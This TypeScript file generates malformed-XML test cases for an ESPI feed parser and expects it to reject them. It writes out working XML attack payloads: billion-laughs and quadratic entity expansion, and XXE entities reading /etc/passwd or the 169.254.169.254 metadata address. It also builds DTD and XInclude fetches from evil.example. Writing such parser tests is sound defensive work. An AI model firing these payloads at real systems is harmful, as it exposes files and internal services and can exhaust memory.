import { addBetweenEntries, addToLeaf, addToTag } from '../edit.ts'
import { accepted, type MalformedClass, rejected, variant, warning } from '../malformed-class.ts'

const DOCTYPE = rejected('doctype')
const INSTRUCTION = rejected('processing_instruction')
const REFUSED = 'XML allows it; ESPI needs none, and it can pull in files or grow without end'

const bare = (feed: string): string => feed.replace(/^<\?.*?\?>/, '')
const doctype = (feed: string, inside: string): string => `<?xml version="1.0"?>\n<!DOCTYPE ${inside}>${bare(feed)}`

/** A name that the document's entity ladder ends with, in a text. */
const laughs = (levels: number): string =>
  Array.from({ length: levels }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')

/** Document types, entities and processing instructions. */
export const DECLARATIONS: MalformedClass[] = [
  {
    name: 'document type',
    verdict: DOCTYPE,
    saxes: REFUSED,
    make: ({ feed, n }) => doctype(feed, variant(n, ['feed', 'feed []', 'x'])),
  },
  {
    name: 'document type from outside',
    verdict: DOCTYPE,
    saxes: REFUSED,
    make: ({ feed, n }) =>
      doctype(
        feed,
        variant(n, [
          'feed SYSTEM "http://evil.example/x.dtd"',
          'feed PUBLIC "-//X//Y" "x.dtd"',
          'feed SYSTEM "file:///etc/passwd"',
        ]),
      ),
  },
  {
    name: 'billion laughs',
    verdict: DOCTYPE,
    saxes: REFUSED,
    make: ({ feed, random, n }) =>
      addToLeaf(doctype(feed, `feed [<!ENTITY l0 "lol">${laughs(n + 2)}]`), random, 'title', `&l${n + 2};`),
  },
  {
    name: 'quadratic blow-up',
    verdict: DOCTYPE,
    saxes: REFUSED,
    make: ({ feed, random, n }) =>
      addToLeaf(
        doctype(feed, `feed [<!ENTITY a "${'a'.repeat(1000 * (n + 1))}">]`),
        random,
        'title',
        '&a;'.repeat(1000),
      ),
  },
  {
    name: 'entity that is a file (XXE)',
    verdict: DOCTYPE,
    saxes: REFUSED,
    make: ({ feed, random, n }) =>
      addToLeaf(
        doctype(
          feed,
          `feed [<!ENTITY x SYSTEM "${variant(n, ['file:///etc/passwd', 'http://169.254.169.254/', 'php://input', 'jar:file:///x!/y'])}">]`,
        ),
        random,
        'tariffProfile',
        '&x;',
      ),
  },
  {
    name: 'parameter entities',
    verdict: DOCTYPE,
    saxes: REFUSED,
    make: ({ feed, n }) => doctype(feed, `feed [<!ENTITY % p SYSTEM "http://evil.example/${n}"> %p;]`),
  },
  {
    name: 'entities that name each other',
    verdict: DOCTYPE,
    saxes: REFUSED,
    make: ({ feed, random }) =>
      addToLeaf(doctype(feed, 'feed [<!ENTITY a "&b;"><!ENTITY b "&a;">]'), random, 'title', '&a;'),
  },
  {
    name: 'document type inside the root, or after it',
    verdict: DOCTYPE,
    make: ({ feed, random, n }) =>
      n % 2 === 0 ? addBetweenEntries(feed, random, '<!DOCTYPE feed>') : `${feed}<!DOCTYPE feed>`,
  },
  {
    name: 'document type that never ends',
    verdict: DOCTYPE,
    make: ({ n }) => `<!DOCTYPE feed [${'<!ENTITY a "b">'.repeat(n)}`,
  },
  {
    name: 'document type in lower case',
    verdict: rejected('not_well_formed'),
    make: ({ feed, n }) => `<!doctype ${variant(n, ['feed', 'x'])}>${bare(feed)}`,
  },
  {
    name: 'entity declared in the prolog without a document type',
    verdict: rejected('not_well_formed'),
    make: ({ feed, n }) => `<!ENTITY a${n} "b">${bare(feed)}`,
  },
  {
    name: 'entity nobody declared, in an address',
    verdict: rejected('undeclared_entity'),
    make: ({ feed, random, n }) =>
      addToTag(feed, random, 'link', ` title="${variant(n, ['&xxe;', '&file;', '&l9;'])}"`),
  },
  {
    name: 'processing instruction in the prolog',
    verdict: INSTRUCTION,
    saxes: REFUSED,
    make: ({ feed, n }) =>
      `${variant(n, ['<?php echo 1 ?>', '<?mso-application progid="x"?>', '<?xml-model href="x"?>', '<?x?>'])}${bare(feed)}`,
  },
  {
    name: 'processing instruction in the content, or after the root',
    verdict: INSTRUCTION,
    saxes: REFUSED,
    make: ({ feed, random, n }) => (n % 2 === 0 ? addBetweenEntries(feed, random, '<?x y?>') : `${feed}<?x ${n}?>`),
  },
  {
    name: 'processing instruction with a reserved name',
    verdict: INSTRUCTION,
    make: ({ feed, n }) => `${variant(n, ['<?XML version="1.0"?>', '<?Xml version="1.0"?>', '<?xmL?>'])}${bare(feed)}`,
  },
  {
    name: 'processing instruction without a name',
    verdict: rejected('processing_instruction'),
    make: ({ feed, random, n }) => addBetweenEntries(feed, random, variant(n, ['<? x?>', '<??>', '<?1?>'])),
  },
  {
    name: 'processing instruction without an end',
    verdict: rejected('truncated'),
    make: ({ feed, n }) => `${feed}<?x ${'y'.repeat(n)}`,
  },
  {
    name: 'stylesheet, which is skipped',
    verdict: accepted,
    make: ({ feed, n }) =>
      `<?xml-stylesheet type="text/xsl" href="${variant(n, ['page.xsl', 'http://evil.example/x.xsl'])}"?>${bare(feed)}`,
  },
  {
    name: 'XInclude, which is no element of ours',
    verdict: warning('unknown_elements'),
    make: ({ feed, random }) =>
      feed.replace(
        /(<(?:\w+:)?UsageSummary[^>]*>)/,
        `$1<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="${random.pick(['text', 'xml'])}"/>`,
      ),
  },
]
